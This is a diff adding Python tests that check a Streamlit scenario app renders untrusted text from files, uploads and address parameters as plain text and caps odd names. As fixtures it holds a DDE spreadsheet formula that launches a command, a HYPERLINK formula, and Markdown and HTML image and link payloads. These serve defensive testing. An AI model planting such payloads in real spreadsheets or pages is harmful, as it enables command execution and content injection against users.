@@ -7,11 +7,13 @@ import csv
 import io
 import json
 import os
+import re
 from pathlib import Path
 
 import openpyxl
 import pandas as pd
 import pytest
+from streamlit.testing.v1 import AppTest
 
 from app.compute import View, compute_view
 from app.exports import results_csv, results_xlsx, verdict_table
@@ -24,6 +26,7 @@ from model.scenario import MAX_FILE_BYTES, load_scenario, parse_scenario
 from model.untrusted import csv_text, safe_cells, safe_key, write_csv
 
 from .conftest import KECHENG
+from .test_app import _errors, _keep_main_module, _plain, _start  # noqa: F401 (a fixture)
 
 HYPERLINK = '=HYPERLINK("https://x/"&A1,"x")'
 DDE = "=1+cmd|' /C calc'!A0"
@@ -200,3 +203,96 @@ def test_an_unreadable_file_or_a_too_long_name_is_one_line(tmp_path):
         locked.chmod(0)
         with pytest.raises(ScenarioError, match="cannot be read: Permission denied"):
             load_scenario(locked)
+
+
+# --- text from a file, an upload or the address is shown as text, never as Markdown --------
+
+IMAGE = "![x](http://host/x.png)"
+LINK = "[open the full plan](https://host/login)"
+HTML = '<img src="http://host/y.png">'
+# Markdown that would fetch or link: escaped, these characters are never side by side.
+LIVE = re.compile(r"!\[|\]\(|(?<!\\)<|https?:")
+
+
+def markdown_shown(at: AppTest) -> list[str]:
+    """Every text the page renders as Markdown: body texts, alerts, captions, table cells."""
+    texts = [e.value for kind in ("markdown", "caption", "error", "warning", "info", "success",
+                                  "title", "subheader")
+             for e in getattr(at, kind)]
+    for table in at.table:
+        frame = table.value
+        texts += [str(c) for c in [*frame.columns, *frame.to_numpy().ravel()]]
+    return texts
+
+
+def hostile_page_text() -> str:
+    """Kecheng with Markdown in its region, plan, and an untracked target's quote and reason."""
+    text = hostile_text(quote=IMAGE, reason=LINK, indicator=HTML)
+    for key, value in (("region", IMAGE), ("plan", LINK), ("region_en", HTML),
+                       ("plan_en", IMAGE)):
+        text, count = re.subn(rf"^{key} = .*$", f"{key} = {json.dumps(value)}", text, count=1,
+                              flags=re.MULTILINE)
+        assert count == 1
+    return text
+
+
+@pytest.fixture
+def hostile_folder(tmp_path, monkeypatch) -> Path:
+    folder = tmp_path / "scenarios"
+    folder.mkdir()
+    (folder / KECHENG.name).write_bytes(KECHENG.read_bytes())
+    (folder / "hostile.toml").write_text(hostile_page_text(), encoding="utf-8")
+    monkeypatch.setenv("INNOSIM_SCENARIOS", str(folder))
+    return folder
+
+
+@pytest.mark.parametrize("language", ["zh", "en"])
+def test_a_scenarios_markdown_is_shown_as_text(hostile_folder, language):
+    at = _start(scenario="hostile.toml", lang=language)
+    assert not at.exception and not at.error, _errors(at.error)
+    shown = markdown_shown(at)
+    assert not [text for text in shown if LIVE.search(text)]
+    # ... and it is there, as written, for the reader.
+    region = IMAGE if language == "zh" else HTML
+    assert any(_plain(c.value).startswith(f"{region} · ") for c in at.caption)
+    untracked = at.table[1].value
+    words = {_plain(str(c)) for c in untracked.to_numpy().ravel()}
+    assert LINK in words and (IMAGE if language == "zh" else HTML) in words
+
+
+def test_address_values_are_shown_as_text_and_capped(hostile_folder):
+    at = _start(scenario=IMAGE, lang=LINK, colour=HTML, fiscal_st_growth="x" * 100_000)
+    assert not at.exception
+    errors = [e.value for e in at.error]
+    assert len(errors) == 4 and not [e for e in errors if LIVE.search(e)]
+    assert all(len(_plain(e)) <= 300 and "\n" not in e for e in errors)
+    assert any(_plain(e).endswith("…") for e in errors)
+
+
+def test_an_odd_upload_name_is_shown_short_and_as_text(hostile_folder):
+    at = _start()
+    name = "[x](https:" + "y" * 300 + ").toml"
+    at.file_uploader(key="upload").set_value((name, b"[scenario\n", "application/toml")).run()
+    assert not at.exception
+    (error,) = at.sidebar.error
+    assert not LIVE.search(error.value) and len(_plain(error.value)) <= 300
+    data = KECHENG.read_bytes()
+    at.file_uploader(key="upload").set_value(("a\x00b" + "z" * 300 + ".toml", data,
+                                              "application/toml")).run()
+    picked = at.selectbox(key="scenario_name").value
+    assert picked.endswith("….toml") and len(picked) <= 80 and "\x00" not in picked
+
+
+def test_a_dollar_in_a_chart_label_or_title_is_no_math(hostile, tmp_path):
+    from app.charts import comparison_figure, figure_png
+    from model.plots import fan_chart
+
+    _, view = hostile
+    odd = r"a$\frac$.toml"   # matplotlib math that does not parse: it raised when drawn
+    figure = comparison_figure({odd: (view.central, view.bands["rd_intensity"])},
+                               "rd_intensity", "en")
+    assert figure_png(figure).startswith(b"\x89PNG")
+    quantiles = view.bands["rd_intensity"].rename_axis("year").reset_index().assign(
+        indicator="rd_intensity", q25=0.0, q75=0.0)
+    path = fan_chart(quantiles, ["rd_intensity"], tmp_path / "fan.png", title=odd)
+    assert path.stat().st_size > 0
